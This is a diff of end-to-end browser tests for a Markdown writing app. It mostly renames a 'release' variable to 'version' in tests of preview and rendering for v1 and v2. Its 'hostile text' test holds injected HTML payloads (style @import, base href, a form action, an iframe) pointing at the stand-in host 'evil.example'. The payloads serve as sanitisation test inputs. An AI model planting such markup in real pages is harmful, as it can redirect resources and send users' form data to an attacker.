@@ -16,12 +16,12 @@ afterAll(() => browser?.close());
 const idIn = (page: Page): string => new URL(page.url()).pathname.split('/')[2] ?? '';
 const opened = (page: Page) => page.waitForURL(/\/d\/[0-9a-f-]{36}$/);
 
-describe.each(['v1', 'v2'])('the page of %s', (release) => {
+describe.each(['v1', 'v2'])('the page of %s', (version) => {
   it('shows a text while it is written as it looks once it is saved', async () => {
-    await using visitor = await visit(browser, origin, { release });
+    await using visitor = await visit(browser, origin, { version });
     const { page } = visitor;
     await page.goto('/');
-    await page.getByLabel('Title').fill(`Written in ${release}`);
+    await page.getByLabel('Title').fill(`Written in ${version}`);
     await page.getByLabel('Text, in Markdown').pressSequentially('# One\n\nsome *words*', { delay: 5 });
     await page.locator('#rendered em', { hasText: 'words' }).waitFor();
     const previewed = await page.locator('#rendered').innerHTML();
@@ -30,15 +30,15 @@ describe.each(['v1', 'v2'])('the page of %s', (release) => {
     const shown = await page.locator('article .prose').innerHTML();
     expect(shown).toContain('<h2 id="section-1">One</h2>');
     expect(previewed).toContain(shown);
-    expect(await readDocument(origin, idIn(page))).toMatchObject({ title: `Written in ${release}`, body: '# One\n\nsome *words*' });
+    expect(await readDocument(origin, idIn(page))).toMatchObject({ title: `Written in ${version}`, body: '# One\n\nsome *words*' });
     await page.goto('/');
     await page
-      .getByRole('link', { name: `Written in ${release}`, exact: true })
+      .getByRole('link', { name: `Written in ${version}`, exact: true })
       .first()
       .click();
     await opened(page);
-    expect(await page.getByText(/minutes? to read/).count()).toBe(release === 'v2' ? 1 : 0);
-    expect(await page.getByRole('navigation', { name: 'Contents' }).count()).toBe(release === 'v2' ? 1 : 0);
+    expect(await page.getByText(/minutes? to read/).count()).toBe(version === 'v2' ? 1 : 0);
+    expect(await page.getByRole('navigation', { name: 'Contents' }).count()).toBe(version === 'v2' ? 1 : 0);
     expect(visitor.complaints).toEqual([]);
   });
 });
@@ -292,8 +292,8 @@ describe('hostile text', () => {
       '<style>@import "//evil.example/s.css"</style><base href="//evil.example/"><form action="//evil.example/"><input name=body>',
       '| a |\n|---|\n| <iframe src=//evil.example></iframe> |',
     ].join('\n\n');
-    for (const release of ['v1', 'v2']) {
-      await using visitor = await visit(browser, origin, { release });
+    for (const version of ['v1', 'v2']) {
+      await using visitor = await visit(browser, origin, { version });
       const { page } = visitor;
       await page.goto('/');
       await page.getByLabel('Title').fill(attack);
